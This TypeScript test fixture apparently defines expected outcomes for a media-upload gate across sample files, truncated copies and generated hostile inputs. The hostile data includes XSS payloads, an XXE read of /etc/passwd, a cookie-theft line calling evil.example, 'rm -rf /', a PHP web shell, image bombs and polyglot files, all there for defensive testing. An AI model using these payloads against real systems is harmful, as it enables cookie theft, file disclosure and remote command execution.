// What every source must make of every sample and of hostile files: ready as a type, or failed with a reason.
import {
  cut,
  ebmlOf,
  elf,
  gifOnScreen,
  gzipOf,
  id3,
  isoOf,
  javaClass,
  joined,
  literally,
  type MakeBytes,
  patched,
  pdfOf,
  pe,
  pngOf,
  riffOf,
  tarOf,
  wrapped,
  zipOf,
} from './hostile-bytes.ts'
import { sampleBytes } from './samples.ts'

/** The type that a ready file is served as, or a phrase of the reason why it failed. */
export type Outcome = { readyAs: string } | { failedFor: string }

export interface GateFile {
  /** Completes the sentence "A file that is …". */
  what: string
  make: MakeBytes
  outcome: Outcome
}

const EARLY = 'ends before it is whole'
const UNKNOWN = 'are of no type this service knows'
const DAMAGED = 'has damaged pixels'
const NO_PICTURE = 'holds no picture that can be read'
const NO_TRACK = 'holds no track that can be read'

const readyAs = (type: string): Outcome => ({ readyAs: type })
const failedFor = (phrase: string): Outcome => ({ failedFor: phrase })
const isType = (type: string): Outcome => failedFor(`are ${type}, which this service does not take`)

/** Every file of fixtures/media. */
const samples: [string, Outcome][] = [
  ['a.mp3', readyAs('audio/mpeg')],
  ['a.ogg', readyAs('audio/ogg')],
  ['a.wav', readyAs('audio/wav')],
  ['adpcm.wav', readyAs('audio/wav')],
  ['alpha.heic', readyAs('image/heic')],
  ['alpha.webm', readyAs('video/webm')],
  ['anim.gif', readyAs('image/gif')],
  ['anim.webp', readyAs('image/webp')],
  ['animated.avif', readyAs('image/avif')],
  ['animated.png', readyAs('image/png')],
  ['big.avif', readyAs('image/avif')],
  ['bomb20k.png', failedFor('megapixels')],
  ['corrupt.jpg', failedFor(NO_PICTURE)],
  ['flac.ogg', failedFor(NO_TRACK)],
  ['fragments.mp4', readyAs('video/mp4')],
  ['gapless.mp3', readyAs('audio/mpeg')],
  ['garbage.mp4', failedFor(NO_TRACK)],
  ['gps.jpg', readyAs('image/jpeg')],
  ['html.png', isType('text/html')],
  ['i.avif', readyAs('image/avif')],
  ['i.heic', readyAs('image/heic')],
  ['i.jpg', readyAs('image/jpeg')],
  ['i.png', readyAs('image/png')],
  ['i.webp', readyAs('image/webp')],
  ['large.heic', readyAs('image/heic')],
  ['linearized.pdf', readyAs('application/pdf')],
  ['live.webm', readyAs('video/webm')],
  ['locked.pdf', readyAs('application/pdf')],
  ['o.ogg', readyAs('audio/ogg')],
  ['ok12k.png', readyAs('image/png')],
  ['p3.heic', readyAs('image/heic')],
  ['plain.mp3', readyAs('audio/mpeg')],
  ['poly.jpg', readyAs('image/jpeg')],
  ['polyzip.png', readyAs('image/png')],
  ['sound-only.mp4', readyAs('video/mp4')],
  ['svg.png', isType('image/svg+xml')],
  ['three.pdf', readyAs('application/pdf')],
  ['trunc.jpg', failedFor(EARLY)],
  ['trunc.mp4', failedFor(EARLY)],
  ['trunc.png', failedFor(EARLY)],
  ['truncnf.mp4', failedFor(EARLY)],
  ['turned.mp4', readyAs('video/mp4')],
  ['v.mov', readyAs('video/quicktime')],
  ['v.mp4', readyAs('video/mp4')],
  ['v.webm', readyAs('video/webm')],
  ['wide-pixels.mp4', readyAs('video/mp4')],
]

/** What is left of a sample of each type at 50 % and at 99 % of its bytes. */
const halves: [string, Outcome, Outcome][] = [
  ['i.jpg', failedFor(EARLY), failedFor(EARLY)],
  ['i.png', failedFor(EARLY), failedFor(EARLY)],
  ['i.webp', failedFor(EARLY), failedFor(EARLY)],
  ['anim.webp', failedFor(EARLY), failedFor(EARLY)],
  ['anim.gif', failedFor(EARLY), failedFor(EARLY)],
  ['i.avif', failedFor(EARLY), failedFor(EARLY)],
  ['i.heic', failedFor(EARLY), failedFor(EARLY)],
  ['v.mp4', failedFor(EARLY), failedFor(EARLY)],
  ['fragments.mp4', failedFor(EARLY), failedFor(EARLY)],
  ['v.mov', failedFor(EARLY), failedFor(EARLY)],
  ['v.webm', failedFor(EARLY), failedFor(EARLY)],
  ['live.webm', failedFor(EARLY), failedFor(EARLY)],
  ['a.mp3', failedFor(EARLY), failedFor(EARLY)],
  ['a.wav', failedFor(EARLY), failedFor(EARLY)],
  ['a.ogg', failedFor(EARLY), failedFor(EARLY)],
  ['three.pdf', failedFor(EARLY), failedFor(EARLY)],
]

const JPEG_START = joined(0xff, 0xd8, 0xff, 0xe0)
const WEBM_HEAD = joined(0x1a, 0x45, 0xdf, 0xa3)

const generated: [string, MakeBytes, Outcome][] = [
  ['empty', literally(), failedFor('is empty')],
  ['one byte', literally('x'), failedFor(UNKNOWN)],
  ['one NUL byte', literally(0), failedFor(UNKNOWN)],
  ['a page', literally('<!DOCTYPE html><html><script>alert(1)</script></html>'), isType('text/html')],
  ['a page behind white space', literally('\r\n\t <html><body onload=alert(1)>'), isType('text/html')],
  ['a page behind a comment', literally('<!-- fern --><script>alert(1)</script>'), isType('text/html')],
  ['a page behind a byte order mark', literally(0xef, 0xbb, 0xbf, '<html>'), isType('text/html')],
  [
    'an SVG',
    literally('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    isType('image/svg+xml'),
  ],
  ['an SVG with a prolog', literally('<?xml version="1.0"?><!DOCTYPE svg><svg/>'), isType('image/svg+xml')],
  [
    'XML',
    literally(
      '<?xml version="1.0"?><!DOCTYPE fern [<!ENTITY b SYSTEM "file:///etc/passwd">]><fern>&b;</fern>',
    ),
    isType('application/xml'),
  ],
  ['JavaScript', literally('fetch("//evil.example/" + document.cookie)\n'), failedFor(UNKNOWN)],
  ['JSON', literally('{"type":"image/png","width":1}'), failedFor(UNKNOWN)],
  ['plain text', literally('This is a picture of a fern.\n'), failedFor(UNKNOWN)],
  ['UTF-16 text', literally(0xff, 0xfe, 'F\0e\0r\0n\0'), failedFor(UNKNOWN)],
  ['a shell script', literally('#!/bin/sh\nrm -rf /\n'), failedFor(UNKNOWN)],
  ['PHP', literally('<?php system($_GET["c"]); ?>'), failedFor(UNKNOWN)],
  ['an ELF program', elf, isType('application/x-elf')],
  ['a Windows program', pe, isType('application/x-msdownload')],
  ['a Java class', javaClass, isType('application/java-vm')],
  ['WebAssembly', literally('\0asm', 1, 0, 0, 0), isType('application/wasm')],
  ['a ZIP', () => zipOf('fern.txt', 'fern'), isType('application/zip')],
  ['a GZIP', () => gzipOf('fern'), isType('application/gzip')],
  ['a TAR', () => tarOf('fern.txt', 'fern'), isType('application/x-tar')],
  ['a 7z', literally('7z', 0xbc, 0xaf, 0x27, 0x1c, Buffer.alloc(32)), isType('application/x-7z-compressed')],
  ['a RAR', literally('Rar!', 0x1a, 7, 0, Buffer.alloc(32)), isType('application/x-rar-compressed')],
  ['a bitmap', literally('BM', Buffer.alloc(64)), isType('image/bmp')],
  ['a TIFF', literally('II*\0', 8, Buffer.alloc(64)), isType('image/tiff')],
  ['PostScript', literally('%!PS-Adobe-3.0\n(/etc/passwd) (r) file'), isType('application/postscript')],
  ['a FLAC', literally('fLaC', Buffer.alloc(64)), isType('audio/flac')],
  ['zeros', () => Buffer.alloc(4096), failedFor(UNKNOWN)],

  ['only the signature of a JPEG', literally(JPEG_START), failedFor(NO_PICTURE)],
  ['only the signature of a PNG', literally(0x89, 'PNG\r\n\x1a\n'), failedFor(UNKNOWN)],
  ['only the signature of a GIF', literally('GIF89a'), failedFor(EARLY)],
  ['only the signature of a WebP', literally('RIFF', 0, 0, 0, 0, 'WEBP'), failedFor(NO_PICTURE)],
  ['only the brand of an AVIF', () => isoOf('avif'), failedFor(NO_PICTURE)],
  ['only the brand of a HEIC', () => isoOf('heic'), failedFor(NO_PICTURE)],
  ['only the brand of a HEIF', () => isoOf('mif1'), failedFor(NO_PICTURE)],
  ['only the brand of an MP4', () => isoOf('isom'), failedFor(NO_TRACK)],
  ['only the brand of a QuickTime film', () => isoOf('qt  '), failedFor(NO_TRACK)],
  ['only the head of a WebM', literally(WEBM_HEAD), failedFor(UNKNOWN)],
  ['only the tag of an MP3', () => id3(0), failedFor(UNKNOWN)],
  ['only one sync word of an MP3', literally(0xff, 0xfb, 0x90, 0), failedFor('no frame')],
  ['only the head of a WAV', literally('RIFF', 0, 0, 0, 0, 'WAVE'), failedFor('WAV without a format')],
  ['only the signature of an Ogg', literally('OggS'), failedFor(UNKNOWN)],
  ['only the signature of a PDF', literally('%PDF-1.7\n'), failedFor(EARLY)],

  ['a PNG bomb of 400 megapixels', () => pngOf(20_000, 20_000), failedFor('400 megapixels')],
  ['a PNG of 4 gigapixels', () => pngOf(65_535, 65_535), failedFor('megapixels')],
  ['a PNG with no row of its pixels', () => pngOf(64, 64), failedFor(DAMAGED)],
  ['a PNG without area', () => pngOf(0, 0), failedFor(NO_PICTURE)],
  ['a GIF with a huge logical screen', () => gifOnScreen(65_535, 65_535), failedFor('megapixels')],
  [
    'a JPEG with a huge frame',
    patched('i.jpg', '\xff\xc0', 3, Buffer.of(0xff, 0xdc, 0xff, 0xdc)),
    failedFor('megapixels'),
  ],
  [
    'an animated WebP on a huge canvas',
    patched('anim.webp', 'VP8X', 8, Buffer.of(0xff, 0x3f, 0, 0xff, 0x3f, 0)),
    failedFor(NO_PICTURE),
  ],
  [
    'a JPEG full of damage',
    async () => (await sampleBytes('i.jpg')).fill(0x55, 2000, 30_000),
    failedFor(EARLY),
  ],
  ['a PNG with a wrong checksum', patched('i.png', 'IDAT', 100, Buffer.of(1, 2, 3, 4)), failedFor(DAMAGED)],
  ['garbage in an MP4', () => isoOf('isom', ['moov', Buffer.alloc(512, 0xa5)]), failedFor(NO_TRACK)],
  [
    'an MP4 without tracks',
    () => isoOf('isom', ['mdat', Buffer.alloc(512)], ['free', Buffer.alloc(8)]),
    failedFor(NO_TRACK),
  ],
  [
    'a RIFF that is neither sound nor picture',
    () => riffOf('FERN', 'data', Buffer.alloc(64)),
    failedFor(UNKNOWN),
  ],
  ['an AVI', () => riffOf('AVI ', 'LIST', Buffer.alloc(64)), isType('video/vnd.avi')],
  ['a Matroska film', () => ebmlOf('matroska'), isType('video/matroska')],
  ['EBML of another kind', () => ebmlOf('fern'), failedFor(UNKNOWN)],
  ['a WebM without tracks', () => ebmlOf('webm'), failedFor(NO_TRACK)],
  [
    'text behind an ID3 tag',
    () => joined(id3(64), 'This is no music at all. '.repeat(40)),
    failedFor(UNKNOWN),
  ],
  [
    'a page behind an ID3 tag',
    () => joined(id3(64), '<html><script>alert(1)</script></html>'),
    failedFor(UNKNOWN),
  ],
  ['a PDF without pages', () => pdfOf(0), failedFor('PDF without pages')],
  ['a PDF without a trailer', () => pdfOf(1, false), failedFor(EARLY)],
  [
    'a page behind the signature of a GIF',
    literally('GIF89a/*<html><script>alert(1)</script>*/=1'),
    failedFor('GIF with damaged blocks'),
  ],
  [
    'a page behind the signature of a PNG',
    literally(0x89, 'PNG\r\n\x1a\n<html><script>alert(1)</script>'),
    failedFor(UNKNOWN),
  ],
  [
    'a page behind the signature of a PDF',
    literally('%PDF-1.4\n<html><script>alert(1)</script></html>'),
    failedFor(EARLY),
  ],
  [
    'a script behind the start of a JPEG',
    literally(JPEG_START, '/*', 'x'.repeat(100), '*/alert(1)'),
    failedFor(NO_PICTURE),
  ],

  ['a hand-written PDF', () => pdfOf(1), readyAs('application/pdf')],
  [
    'a PDF that a program stands before',
    wrapped('three.pdf', { before: elf() }),
    isType('application/x-elf'),
  ],
  [
    'a picture that a page stands before',
    wrapped('i.png', { before: '<html><script>alert(1)</script>' }),
    isType('text/html'),
  ],
  [
    'a picture and a page',
    wrapped('i.png', { behind: '<html><script>alert(1)</script></html>' }),
    readyAs('image/png'),
  ],
  ['a JPEG and a ZIP', wrapped('i.jpg', { behind: zipOf('a.html', '<script>') }), readyAs('image/jpeg')],
  ['a GIF and a script', wrapped('anim.gif', { behind: '*/=1;alert(1)' }), readyAs('image/gif')],
  ['a WebP and a shell script', wrapped('i.webp', { behind: '\n#!/bin/sh\nid\n' }), readyAs('image/webp')],
  ['a film and a program', wrapped('v.mp4', { behind: elf() }), readyAs('video/mp4')],
  [
    'a sound and a page',
    wrapped('a.wav', { behind: '<html><script>alert(1)</script></html>' }),
    readyAs('audio/wav'),
  ],
  [
    'a document and a ZIP',
    wrapped('three.pdf', { behind: zipOf('a.html', '<script>') }),
    readyAs('application/pdf'),
  ],
]

export const gateFiles: GateFile[] = [
  ...samples.map(([name, outcome]) => ({
    what: `the sample ${name}`,
    make: () => sampleBytes(name),
    outcome,
  })),
  ...halves.flatMap(([name, half, nearly]) => [
    { what: `half of ${name}`, make: cut(name, 0.5), outcome: half },
    { what: `${name} without its last hundredth`, make: cut(name, 0.99), outcome: nearly },
  ]),
  ...generated.map(([what, make, outcome]) => ({ what, make, outcome })),
]
